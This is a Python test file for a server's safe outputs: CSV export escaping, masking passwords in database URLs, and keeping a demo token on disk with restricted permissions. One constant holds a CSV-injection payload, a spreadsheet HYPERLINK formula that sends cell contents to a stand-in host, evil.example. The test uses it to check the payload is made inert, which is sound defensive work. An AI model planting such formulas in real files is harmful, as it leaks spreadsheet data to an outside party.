"""What the server hands its owners is safe to open: CSV a spreadsheet will not run, URLs without passwords,
and the demo's token kept from one run to the next instead of minted anew."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

from distribute.cli import masked_url
from distribute.demo import ensure_demo_campaign
from tests.conftest import SEED_ANSWER, LiveServer
from tests.support.protocol_client import work

FORMULA_HOST = '=HYPERLINK("https://evil.example/?"&A1,"click")'


async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(live_server: LiveServer) -> None:
    campaign_id = await live_server.create_campaign()
    await work(live_server.ws_url, campaign=campaign_id, client={"kind": "test", "host": FORMULA_HOST})
    await live_server.wait_complete(campaign_id)
    response = await live_server.client.get(f"/api/campaigns/{campaign_id}/results", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows
    assert {row["host"] for row in rows} == {"'" + FORMULA_HOST}
    # The JSON columns still parse, negative numbers included: a number is no formula.
    assert sorted(n for row in rows for n in json.loads(row["result"]) or []) == SEED_ANSWER


def test_a_database_url_is_printed_without_its_password() -> None:
    assert (
        masked_url("postgres://app:hunter2@db.example:5432/distribute")
        == "postgres://app:***@db.example:5432/distribute"
    )
    assert (
        masked_url("postgresql://app:s%40cret@[::1]/d?sslmode=require")
        == "postgresql://app:***@[::1]/d?sslmode=require"
    )
    assert masked_url("sqlite:///var/distribute.db") == "sqlite:///var/distribute.db"
    assert masked_url("postgres://app@db/d") == "postgres://app@db/d"


async def test_the_demo_keeps_its_token_between_runs(live_server: LiveServer, tmp_path: Path) -> None:
    token_file = tmp_path / "demo-token"
    first_campaign, first = await ensure_demo_campaign(live_server.platform, token_file)
    again_campaign, again = await ensure_demo_campaign(live_server.platform, token_file)
    assert (again_campaign, again) == (first_campaign, first)
    assert token_file.read_text().strip() == first
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
    owner = await live_server.platform.storage.user_for_token(first)
    assert owner is not None and owner.email == "demo@example.org"


async def test_the_demo_mints_a_new_token_when_the_kept_one_is_no_longer_accepted(
    live_server: LiveServer, tmp_path: Path
) -> None:
    token_file = tmp_path / "demo-token"
    token_file.write_text("dst_forged\n")
    _, token = await ensure_demo_campaign(live_server.platform, token_file)
    assert token != "dst_forged"
    assert await live_server.platform.storage.user_for_token(token) is not None
    assert token_file.read_text().strip() == token
